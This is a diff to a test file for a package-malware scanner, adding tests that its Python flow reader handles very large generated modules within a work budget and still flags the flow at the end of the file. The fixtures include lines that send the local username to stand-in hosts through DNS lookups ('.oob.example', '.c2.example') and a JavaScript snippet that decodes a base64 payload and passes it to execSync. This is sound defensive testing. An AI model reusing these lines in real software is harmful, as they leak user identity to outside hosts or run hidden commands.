@@ -6,10 +6,12 @@
  */
 import { test } from 'uvu';
 import * as assert from 'uvu/assert';
-import { scanText } from '../../shared/packages/analysis/index.js';
+import { analyzeArchive, scanText } from '../../shared/packages/analysis/index.js';
+import { pyCodeView } from '../../shared/packages/analysis/codeview.js';
 import { jsFlow } from '../../shared/packages/analysis/npm/flow-js.js';
-import { pyFlow } from '../../shared/packages/analysis/npm/flow-py.js';
-import { L } from '../../shared/packages/analysis/npm/flow.js';
+import { PY_FLOW_BUDGET, pyFlow } from '../../shared/packages/analysis/npm/flow-py.js';
+import { makeSdist } from '../support/archives.js';
+import { L } from '../../shared/packages/analysis/npm/flow-rules.js';
 import { isMentionOnly } from '../../shared/packages/analysis/npm/mention.js';
 
 const js = (src: string) => (jsFlow(src)?.hits ?? []).map((h) => h.rule.id);
@@ -112,6 +114,69 @@ test('decode next to a spawn in another function is not decode-and-execute; in t
   assert.not.ok(scanText(apart, { path: 'a.js', lang: 'js' }).findings.some((x) => x.ruleId === 'decode_exec'));
   const together = "const { execSync } = require('child_process');\nconst cmd = Buffer.from(payload, 'base64').toString();\nexecSync(cmd);\n";
   assert.ok(scanText(together, { path: 'a.js', lang: 'js' }).findings.some((x) => x.ruleId === 'decode_exec'));
+});
+
+/**
+ * A large generated module in the shapes that made the Python reader super-linear: byte strings full
+ * of escapes too long to be a URL (protobuf descriptors, regex test suites), long dotted chains, long
+ * identifiers before `.send(`, long `for` heads. The real flow sits at the end of the file.
+ */
+function largeModule(lines: number): string {
+  const esc = '\\x01\\x0f\\n'.repeat(200);
+  const out: string[] = ['import socket, getpass'];
+  for (let i = 0; i < lines; i++) {
+    switch (i % 5) {
+      case 0:
+        out.push(`DESC_${i} = _pool.AddSerializedFile(b'${esc}')`);
+        break;
+      case 1:
+        out.push(`v_${i} = ${Array.from({ length: 200 }, (_, k) => `a${k}`).join('.')}`);
+        break;
+      case 2:
+        out.push(`${'x'.repeat(300)}_${i} = obj.send_${i}(${'y'.repeat(300)}.sendall_x)`);
+        break;
+      case 3:
+        out.push(`for a_${i} in ${' in '.repeat(100)}items_${i}: pass`);
+        break;
+      default:
+        out.push(`s_${i} = "${'\\\\'.repeat(150)}" + 'host${i}.example'`);
+    }
+  }
+  out.push('name = getpass.getuser()', 'socket.gethostbyname(name + ".oob.example")');
+  return out.join('\n') + '\n';
+}
+
+test('Python reader: a large generated module is read to the end within its budget (work is linear in the file)', () => {
+  const src = largeModule(1000);
+  assert.ok(src.length > 800_000, String(src.length));
+  const facts = pyFlow(pyCodeView(src));
+  assert.equal(facts.hits.map((h) => h.rule.id), ['dns_recon']);
+  assert.ok(facts.work);
+  assert.ok(facts.work.complete, `used ${facts.work.used} of ${facts.work.budget}`);
+  assert.ok(facts.work.used <= PY_FLOW_BUDGET);
+  // Every statement is read a bounded number of times: the work grows with the file, not faster.
+  const half = pyFlow(pyCodeView(largeModule(500))).work!.used;
+  assert.ok(facts.work.used < 2.2 * half, `${facts.work.used} vs ${half}`);
+});
+
+test('Python reader: past its budget it stops, and what it found before stands', () => {
+  const src = 'import socket, getpass\nsocket.gethostbyname(getpass.getuser() + ".oob.example")\n' + largeModule(400);
+  const facts = pyFlow(pyCodeView(src), 100_000);
+  assert.equal(facts.work!.complete, false);
+  assert.ok(facts.work!.used <= 100_000, String(facts.work!.used));
+  assert.equal(facts.hits.map((h) => h.rule.id), ['dns_recon']);
+});
+
+test('Python reader: escaped quotes and long escaped literals (a protobuf descriptor) do not hide the next literal', () => {
+  const proto = `DESCRIPTOR = pool.AddSerializedFile(b'${'\\n\\x17grpc\\"'.repeat(120)}')\n`;
+  assert.equal(py(proto + 'import socket, os\nsocket.gethostbyname(os.getlogin() + ".c2.example")\n'), ['dns_recon']);
+  assert.equal(py(proto), []);
+});
+
+test('an sdist with a 1 MB generated module: the analysis finishes and reports the flow at its end', async () => {
+  const big = largeModule(1000);
+  const a = await analyzeArchive(makeSdist('bigmod', '1.0.0', { 'setup.py': 'from setuptools import setup\nsetup(name="bigmod")\n', 'bigmod/__init__.py': 'from .gen import *\n', 'bigmod/gen.py': big }), { kind: 'tgz', registry: 'pypi' });
+  assert.ok(a.findings.some((f) => f.ruleId === 'dns_recon' && f.file.endsWith('bigmod/gen.py')), JSON.stringify(a.findings.map((f) => f.ruleId)));
 });
 
 test.run();
